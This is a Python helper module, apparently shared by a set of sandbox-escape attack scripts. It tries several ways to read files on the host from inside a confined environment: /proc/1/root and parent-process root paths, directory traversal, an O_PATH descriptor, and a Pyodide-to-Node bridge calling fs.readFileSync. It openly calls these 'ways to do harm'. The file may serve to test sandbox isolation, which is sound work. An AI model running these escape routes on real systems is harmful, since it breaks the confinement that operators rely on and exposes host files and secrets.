# Shared by all attacks. `P` holds the parameters.
import sys


def say(*words):
    print(*words, flush=True)


def ways(*functions):
    """Tries each way to do harm; one that fails says why."""
    for function in functions:
        try:
            result = function()
            if result is not None:
                say(result)
        except BaseException as error:
            say(function.__name__, "failed:", type(error).__name__, error)


def bridge(code):
    """Python in WebAssembly can reach the JavaScript that hosts it; elsewhere this fails."""
    from pyodide.code import run_js

    return run_js("const host = (name) => process.getBuiltinModule(name);" + code)


def read(path):
    """Reads a file of the host in each way that may lead to it."""
    import json
    import os

    def plain():
        return open(path).read()

    def from_the_first_process():
        return open("/proc/1/root" + path).read()

    def from_the_parent():
        return open(f"/proc/{os.getppid()}/root{path}").read()

    def up_from_here():
        return open("../" * 12 + path[1:]).read()

    def by_descriptor():
        return os.read(os.open(path, os.O_RDONLY, dir_fd=os.open("/", os.O_PATH)), 1 << 20).decode()

    def by_bridge():
        return bridge(f"host('node:fs').readFileSync({json.dumps(path)}, 'utf8')")

    ways(plain, from_the_first_process, from_the_parent, up_from_here, by_descriptor, by_bridge)


say("began")
